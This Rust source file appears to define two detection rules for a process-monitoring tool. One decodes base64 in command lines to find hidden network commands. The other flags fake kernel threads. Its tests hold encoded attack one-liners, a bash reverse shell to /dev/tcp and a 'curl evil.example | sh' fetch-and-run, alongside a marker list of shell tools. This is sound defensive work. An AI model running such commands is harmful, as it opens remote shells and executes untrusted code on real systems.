//! Two rules that say more than a condition can: one reads what a command hides, one asks whether a
//! kernel thread is one. The pack beside them is in `pack/`.

mod base64;

use daemoneye_sdk::rule::{Finding, Needle, Rule, columns};

/// What nobody hides without a reason.
static MARKS: [Needle; 4] =
    [Needle::new("/dev/tcp/"), Needle::new("curl "), Needle::new("wget "), Needle::new("nc -e")];
/// Shorter words are too often base64 by chance.
const MIN_LETTERS: usize = 16;

columns! {
    /// What the rules read of an event.
    struct Process { command_line, executable_path, user_name }
}

/// A word of the command line is base64 for a command that reaches out.
#[derive(Default)]
struct HiddenCommand;

impl Rule for HiddenCommand {
    const ID: &'static str = "example-hidden-command";
    type Event<'a> = Process<'a>;

    fn judge(&self, event: Process<'_>) -> Option<Finding> {
        let words = event.command_line()?.split(|letter: char| !base64::is_letter(letter));
        let mut hidden = words.filter(|word| word.len() >= MIN_LETTERS).filter_map(base64::decode);
        let (text, mark) = hidden.find_map(|text| {
            let mark = MARKS.iter().find(|mark| mark.is_in(&text))?.text();
            Some((text, mark))
        })?;
        let finding = Finding::because(
            format!("base64 that hides {mark:?}"),
            "command_line",
            text.trim_ascii(),
        );
        Some(match event.user_name() {
            Some(user) => finding.and("run by", "user_name", user),
            None => finding,
        })
    }
}

/// The command line of a kernel thread, and a program's file behind it.
#[derive(Default)]
struct FalseKernelThread;

impl Rule for FalseKernelThread {
    const ID: &'static str = "example-false-kernel-thread";
    type Event<'a> = Process<'a>;

    fn judge(&self, event: Process<'_>) -> Option<Finding> {
        let (line, path) = (event.command_line()?, event.executable_path()?);
        let thread = line.starts_with('[') && line.ends_with(']');
        thread.then(|| {
            Finding::because("looks like a kernel thread", "command_line", line).and(
                "and is a program",
                "executable_path",
                path,
            )
        })
    }
}

daemoneye_sdk::export!(HiddenCommand, FalseKernelThread);

#[cfg(test)]
mod tests {
    use super::*;
    use daemoneye_sdk::rule::{field, judge};

    #[test]
    fn what_base64_hides_is_found_and_harmless_base64_is_not() {
        let finds = |line: &str| judge(&HiddenCommand, &[field::command_line.is(line)]).is_some();
        assert!(finds("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ= | base64 -d | sh"));
        assert!(!finds("sh -c echo aGVsbG8gd29ybGQsIGdvb2QgZGF5 | base64 -d"));
        assert!(!finds("ls -l /usr/share/doc/base64/examples"));
    }

    #[test]
    fn evidence_is_what_was_hidden() {
        let line = "sh -c echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh";
        let event = [field::command_line.is(line), field::user_name.is("eve")];
        let finding = judge(&HiddenCommand, &event).expect("a finding");
        let values: Vec<_> = finding.evidence().iter().map(|e| e.value.as_str()).collect();
        assert_eq!(values, ["curl http://evil.example/x | sh", "eve"]);
    }

    #[test]
    fn a_kernel_thread_has_no_file() {
        let line = field::command_line.is("[kworker/0:1]");
        assert!(judge(&FalseKernelThread, std::slice::from_ref(&line)).is_none());
        assert!(judge(&FalseKernelThread, &[line, field::executable_path.is("/tmp/x")]).is_some());
    }
}
